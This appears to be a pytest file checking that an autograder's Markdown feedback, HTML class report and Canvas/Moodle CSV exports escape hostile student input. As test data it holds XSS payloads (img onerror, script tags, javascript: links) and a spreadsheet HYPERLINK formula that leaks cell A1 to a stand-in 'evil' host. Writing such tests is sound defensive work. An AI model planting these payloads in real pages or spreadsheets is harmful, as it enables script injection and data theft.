"""A student's feedback file is Markdown that an LMS or a viewer renders: whatever a student
puts in a name, a file name or an exception message must show as the literal text, never as
a tag, a link, emphasis or the end of the code block. Rendered here with markdown-it-py, a
CommonMark renderer (the spec LMS viewers follow)."""
import html
import re

from markdown_it import MarkdownIt

from autograde.reports import feedback_markdown
from sandbox import textsafe
from sandbox.results import Check, Part, Result, SubmissionReport

HOSTILE = ["<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "**bold** _it_",
           "`code` # heading", "&lt;b&gt; entity", "<script>alert(1)</script>", "a\\b|c"]


def rendered_text(markdown: str) -> tuple[str, str]:
    page = MarkdownIt("commonmark").render(markdown)
    return page, html.unescape(re.sub(r"<[^>]+>", "", page))


def test_markdown_text_shows_every_hostile_string_literally():
    for text in HOSTILE:
        page, shown = rendered_text(textsafe.markdown(text))
        assert shown.strip() == text
        assert not re.search(r"<(img|script|a|em|strong|code|h\d)\b", page), page


def test_a_feedback_file_is_inert_whatever_the_student_wrote():
    name = "<img src=x onerror=alert(1)>"
    message = "raised ValueError: ~~~~~\n<script>alert(1)</script>\n~~~~\n# not a heading"
    part = Part("ex1", "Exercise 1 (easy): Chinchilla loss calculator", "chinchilla_loss", 10)
    report = SubmissionReport(submission="[x](javascript:alert(1)).ipynb", student_id="**bob**", name=name,
                              parts=[part],
                              results=[(Check("ex1", "ex1_gpt3", 10, False, "chinchilla_loss"),
                                        Result(False, message))])
    page, shown = rendered_text(feedback_markdown(report))
    assert not re.search(r"<(img|script|a|em|strong|h[2-6])\b", page), page
    assert page.count("<pre>") == 1 and page.count("</pre>") == 1  # the report stays one code block
    assert name in shown and "[x](javascript:alert(1)).ipynb" in shown and "**bob**" in shown
    assert "<script>alert(1)</script>" in shown  # shown as text, inside the code block


def _report(student_id: str, status_text: str = "", submission: str = "x.py") -> SubmissionReport:
    part = Part("ex1", "Exercise 1 (easy): Chinchilla loss calculator", "chinchilla_loss", 10)
    report = SubmissionReport(submission=submission, student_id=student_id, name=student_id, parts=[part],
                              results=[(Check("ex1", "ex1_gpt3", 10, False, "chinchilla_loss"), Result(True, "ok"))])
    report.status_text = status_text
    return report


def test_the_class_report_shows_a_status_naming_files_as_text():
    """The status names files the student chose ("several files: ... also sent <name>"): the
    class report's table shows them as text, never as markup."""
    from autograde.reports import class_report_html

    status = "several files: graded a.py (the newest script); also sent <img src=x onerror=alert(1)>.py, <b>y"
    page = class_report_html([_report("alice", status)])
    assert "<img" not in page and "<b>y" not in page and html.escape(status) in page


def test_scrubbing_the_machines_folders_cannot_uncover_a_spreadsheet_formula(tmp_path, monkeypatch):
    import csv

    from autograde import lms, reports

    monkeypatch.setattr(reports, "PRIVATE_ROOTS", [tmp_path])
    name = f"{tmp_path}/=HYPERLINK(\"http://evil/\"&A1,\"click\")"
    report = _report(name)
    reports.write_csv(tmp_path / "grades.csv", [report])
    reports.write_atomically(tmp_path / "canvas.csv", lms.canvas_csv([(report, None)], "Exercises"))
    reports.write_atomically(tmp_path / "moodle.csv", lms.moodle_csv([(report, None)]))
    for out in ("grades.csv", "canvas.csv", "moodle.csv"):
        with (tmp_path / out).open(newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), (out, cells)
        assert any(c == "'=HYPERLINK(\"http://evil/\"&A1,\"click\")" for c in cells), (out, cells)


def test_students_whose_ids_make_one_file_name_each_get_their_own_feedback(tmp_path):
    from autograde.reports import write_feedback

    ids = ["ann lee", "ann_lee", "ann+lee", "Bob", "bob", "carol"]
    write_feedback(tmp_path, [_report(i) for i in ids])
    files = sorted(p.name for p in tmp_path.iterdir())
    assert len(files) == len(ids) and len({f.lower() for f in files}) == len(ids)
    assert "carol.md" in files  # a name nobody shares stays as it was
    for i in ids:
        assert sum(f"- Student: {textsafe.markdown(i)}\n" in (tmp_path / f).read_text() for f in files) == 1


def test_long_ids_are_cut_to_names_that_stay_apart_and_fit_with_every_suffix(tmp_path):
    """A 250-character id is cut, with its hash: two ids that differ only at their end keep two
    names, a cut never splits a character, and the suffixes the folder may add (the same id
    twice) and the temporary name the file is written through still fit 255 bytes."""
    from autograde.reports import FEEDBACK_NAME_BYTES, feedback_file_name, write_feedback

    long = "z" * 249 + "a"
    wide = "\u00e9" * 200  # two bytes a character: a cut at an odd byte would split one
    assert feedback_file_name(long) != feedback_file_name(long[:-1] + "b")
    for sid in (long, wide):
        name = feedback_file_name(sid)
        assert len(name.encode("utf-8")) <= FEEDBACK_NAME_BYTES + len(".md") and "\ufffd" not in name, name
    ids = [long, long, long[:-1] + "b", wide, wide]
    write_feedback(tmp_path, [_report(i) for i in ids])
    assert len(list(tmp_path.iterdir())) == len(ids)
